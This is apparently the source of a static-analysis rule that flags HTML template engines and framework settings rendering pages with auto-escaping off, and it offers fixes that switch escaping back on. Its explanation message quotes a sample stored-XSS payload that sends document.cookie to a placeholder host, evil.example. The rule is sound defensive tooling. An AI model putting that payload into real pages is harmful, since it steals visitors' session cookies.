/** A template engine that does not escape. What it renders decides: a page is at fault, a command or a prompt is not. */
import { setKeyword } from "../server/rule/fix/arguments.ts";
import { importEdit } from "../server/rule/fix/imports.ts";
import { constantOf, given, knownStrings, written } from "../server/rule/given.ts";
import { isTest } from "../server/rule/place.ts";
import {
  type AbstractValue,
  type AllCalls,
  type Code,
  type Context,
  type Edit,
  type Fix,
  type Match,
  type Observation,
  type ProgramContext,
  rule,
  type Span,
  type StoreView,
} from "../server/rule/rule.ts";
import { madeFrom } from "../server/rule/slice.ts";
import { type Data, rowData, spanOf } from "../server/rule/tokens.ts";

const KIND = "autoescape";
const TITLE = "Escape what is put into the page";
/** The name of a page, also with the engine's own ending behind it. */
const PAGE = /\.(?:x?html?|svg)(?:\.(?:j2|jinja2?|njk|nunjucks|hbs|handlebars|eta|tmpl|tpl))?$/i;
/** What is put into a text, and how a template escapes it, or makes a number of it, by hand. */
const HOLE = /\{\{-?([^{}]*)\}\}|<%=([\s\S]*?)%>/g;
const BY_HAND = /\|\s*(?:e|escape|forceescape|tojson|urlencode|int|float|length)\b/;

export default rule({
  id: "template-autoescape-off",
  title: "Pages are rendered without escaping",
  category: "browser",
  severity: "medium",
  cwe: [116, 79],
  owasp: ["A03:2021", "A05:2025"],
  project: {
    sinks: [KIND],
    check(own, context, all) {
      if (isTest(context.file)) return [];
      const engines = own.filter((call) => dataOf(call).does === "engine");
      // The same for all engines of a file: which of them a template belongs to is not looked at.
      const used = engines.length === 0 ? undefined : usedBy(own, context, all);
      return used === undefined
        ? []
        : engines.flatMap((call) => matchOf(call, used, context) ?? []);
    },
  },
  stores: { sinks: [KIND], check: checkStore },
  say: ({ facts }) => {
    const api = String(facts?.api);
    return {
      what:
        facts?.how === "ends"
          ? `The pages rendered here are not escaped: ${String(facts.name)} has an ending that the setting does not name.`
          : facts?.sure === false
            ? `${api} does not escape here what is put into a template.`
            : `${api} does not escape here what is put into a page.`,
      why: "A name such as <script>fetch('//evil.example/?'+document.cookie)</script> that somebody saved runs in the browser of everyone who sees it.",
      fix:
        api === "Jinja"
          ? "Pass autoescape=select_autoescape(), or True, and mark with |safe only what is HTML by intention."
          : "Leave escaping on, and mark in the template only what is HTML by intention.",
    };
  },
  fixes: (match, code, context) => [fix(match, code, context)],
});

function dataOf(call: Pick<Observation, "sinks">): Data {
  return rowData(call, KIND) ?? {};
}

function matchOf(call: Observation, used: Used, context: Context): Match | undefined {
  const data = dataOf(call);
  const code = context.code(call.site.item);
  const flag = given(call, data.flag);
  if (code === undefined || flag.kind === "unknown") return undefined;
  const made = rendered(call, used, code, context);
  const facts = { api: String(data.api) };
  const at = { item: call.site.item, op: call.site.op, call, span: spanOf(call, code, flag) };
  const ends = endings(call, data, code, context);
  if (ends !== undefined) {
    const name = made.pages.find((p) => !ends.some((end) => p.toLowerCase().endsWith(end)));
    if (name === undefined) return undefined;
    return { ...at, facts: { ...facts, how: "ends", name, sure: true } };
  }
  const isOff = flag.kind === "absent" ? data.usual === "off" : constantOf(flag) === data.off;
  if (!isOff || made.sort === "other") return undefined;
  const sure = made.sort === "page";
  return {
    ...at,
    severity: sure ? "medium" : "low",
    // What is not known to be a page may as well be a command, a prompt, a configuration.
    confidence: !sure ? "low" : call.guessed ? "medium" : "high",
    facts: { ...facts, sure, all: made.pages.every((name) => /\.(?:html?|xml)$/i.test(name)) },
  };
}

interface Rendered {
  readonly sort: "page" | "other" | "unknown";
  /** Names of templates that are pages. */
  readonly pages: readonly string[];
}
interface Used {
  readonly isPage: boolean;
  readonly isUnknown: boolean;
  /** Names of templates that are pages. */
  readonly pages: readonly string[];
}
/** What the engine renders, by the names and texts of its templates. */
function rendered(call: Observation, used: Used, code: Code, context: Context): Rendered {
  const data = dataOf(call);
  if (data.source !== undefined) return ofText(call, code, context);
  const { pages, isUnknown } = used;
  const isPage = used.isPage || data.pages === true || given(call, data.page).kind === "given";
  return { sort: isPage || pages.length > 0 ? "page" : isUnknown ? "unknown" : "other", pages };
}
/** What the engines of the file are asked to render. */
function usedBy(calls: readonly Observation[], context: Context, all: AllCalls): Used {
  const own = usesIn(calls);
  // One engine for the whole program: other files ask it for templates.
  return own.length === 0 && all.shared(enginesIn) === 1
    ? all.shared(usedAnywhere)
    : whatUses(own, context);
}
function usesIn(calls: readonly Observation[]): readonly Observation[] {
  return calls.filter((c) => dataOf(c).does !== "engine");
}
function enginesIn(calls: readonly Observation[]): number {
  return calls.filter((c) => dataOf(c).does === "engine" && dataOf(c).source === undefined).length;
}
function usedAnywhere(calls: readonly Observation[], context: ProgramContext): Used {
  return whatUses(usesIn(calls), context);
}
function whatUses(uses: readonly Observation[], context: ProgramContext): Used {
  let isUnknown = uses.length === 0;
  let isPage = false;
  const pages: string[] = [];
  for (const use of uses) {
    const place = context.code(use.site.item);
    if (place === undefined) continue;
    if (dataOf(use).does === "text") {
      const { sort } = ofText(use, place, context);
      isPage ||= sort === "page";
      isUnknown ||= sort === "unknown";
      continue;
    }
    const found = given(use, dataOf(use).source);
    const names = found.kind === "given" ? namesIn(found.value) : [];
    pages.push(...names.filter((name) => PAGE.test(name)));
    isUnknown ||= names.length === 0 || names.some((name) => !/\.\w+$/.test(name));
  }
  return { isPage, isUnknown, pages };
}
/** Names that are known, at least how they end. */
function namesIn(value: AbstractValue): readonly string[] {
  const ends = (value.alts ?? []).flatMap((alt) => {
    const last = "parts" in alt ? alt.parts.at(-1)?.text : undefined;
    return last === undefined || !/\.\w+$/.test(last) ? [] : [last];
  });
  return [...knownStrings(value), ...ends];
}

/** A template that is given as a text, or read from a file with a name. */
function ofText(call: Observation, code: Code, context: ProgramContext): Rendered {
  const found = given(call, dataOf(call).source);
  if (found.kind !== "given") return { sort: "unknown", pages: [] };
  const known = knownStrings(found.value);
  if (known.length > 0) {
    const isPage = known.some((text) => /<[a-z!][^>]*>/i.test(text) && isOpen(text));
    return { sort: isPage ? "page" : "other", pages: [] };
  }
  const place = written(code, found, context);
  const named =
    place === undefined
      ? []
      : madeFrom(place.code, place.id).flatMap((op) =>
          op.op === "const" && typeof op.value === "string" && /\.\w+$/.test(op.value)
            ? [op.value]
            : [],
        );
  if (named.some((name) => PAGE.test(name))) return { sort: "page", pages: [] };
  return { sort: named.length > 0 ? "other" : "unknown", pages: [] };
}
/** Something is put into the text that the text does not escape itself. */
function isOpen(text: string): boolean {
  return [...text.matchAll(HOLE)].some((hole) => !BY_HAND.test(hole[1] ?? hole[2] ?? ""));
}

/** Of a setting that goes by how names end: the endings that are escaped. */
function endings(
  call: Observation,
  data: Data,
  code: Code,
  context: Context,
): readonly string[] | undefined {
  if (data.chooser === undefined) return undefined;
  const flag = given(call, data.flag);
  if (flag.kind !== "given" || !flag.value.refs.includes(`lib:${String(data.chooser)}()`))
    return undefined;
  const { op, code: at } = written(code, flag, context) ?? { op: undefined, code };
  if (op?.op !== "call") return undefined;
  const positional = op.args.filter((a) => a.name === undefined);
  const chosen = op.args.find((a) => a.name === "enabled_extensions") ?? positional[0];
  // What it does with all others was chosen as well.
  if (positional.length > 1 || op.args.some((a) => a.name !== undefined && a !== chosen))
    return undefined;
  if (chosen === undefined) return [".html", ".htm", ".xml"];
  const list = at.op(chosen.value);
  if (list.op !== "sequence") return undefined;
  const out: string[] = [];
  for (const { value } of list.elements) {
    const one = at.op(value);
    if (one.op !== "const" || typeof one.value !== "string") return undefined;
    out.push(`.${one.value.replace(/^\.+/, "").toLowerCase()}`);
  }
  return out;
}

/** A setting of a framework, which renders pages with it. */
function checkStore(store: StoreView, context: Context): Match | undefined {
  const code = context.code(store.site.item);
  if (code === undefined || isTest(context.file)) return undefined;
  const data = store.sinks.find((s) => s.kind === KIND)?.data ?? {};
  const at = switchOf(store, data, code);
  if (at === undefined) return undefined;
  return {
    item: store.site.item,
    span: at,
    op: store.site.op,
    facts: { api: String(data.api), sure: true, start: at.start, end: at.end },
  };
}
/** Where the setting is switched off. */
function switchOf({ valueOp, site }: StoreView, data: Data, code: Code): Span | undefined {
  if (data.option === undefined) {
    const op = code.op(valueOp);
    return op.op === "const" && op.value === false ? site.span : undefined;
  }
  for (const op of madeFrom(code, valueOp)) {
    const entry =
      op.op === "record" ? op.entries.findLast((e) => e.key === data.option) : undefined;
    const value = entry === undefined ? undefined : code.op(entry.value);
    if (value?.op === "const" && value.value === false) return entry?.span;
  }
  return undefined;
}

function fix(match: Match, code: Code, context: Context): Fix {
  const edits = editsOf(match, code, context);
  return edits === undefined
    ? {
        title: TITLE,
        grade: "manual",
        edits: [],
        reason:
          match.facts?.how === "ends"
            ? "Name the whole ending of these templates in the list (html.j2), or give them names that end in .html."
            : "Switch escaping on where the options of the engine are made. No edit is offered: they are not written in this place.",
      }
    : { title: TITLE, grade: "suggested", edits: [{ file: code.file, edits }] };
}
function editsOf(match: Match, code: Code, context: Context): readonly Edit[] | undefined {
  const { call, facts } = match;
  if (facts?.how === "ends") return undefined;
  if (call === undefined) return ofStore(match, code);
  const data = dataOf(call);
  const op = code.op(call.site.op);
  const flag = given(call, data.flag);
  if (op.op !== "call") return undefined;
  const on = data.off === true ? "false" : code.language === "python" ? "True" : "true";
  const byName = data.chooser !== undefined && data.source === undefined && facts?.all === true;
  const [module = "", name = ""] = String(data.chooser ?? "").split(".");
  const wanted = byName ? importEdit(code, { module, name }) : undefined;
  const value = wanted === undefined ? on : `${wanted.local}()`;
  let edit: Edit | undefined;
  if (flag.kind === "given") {
    const place = written(code, flag, context);
    if (place?.op.op !== "const" || place.code.item !== code.item) return undefined;
    edit = { ...code.absolute(place.op.span), newText: value };
  } else edit = setKeyword(code, op, String(data.flag), value);
  if (edit === undefined) return undefined;
  return [...(wanted?.edit === undefined ? [] : [wanted.edit]), edit];
}
function ofStore({ facts }: Match, code: Code): readonly Edit[] | undefined {
  const { start, end } = code.absolute({ start: Number(facts?.start), end: Number(facts?.end) });
  const text = code.fileText.slice(start, end);
  const at = text.lastIndexOf("False");
  return at < 0
    ? undefined
    : [{ start: start + at, end: start + at + "False".length, newText: "True" }];
}
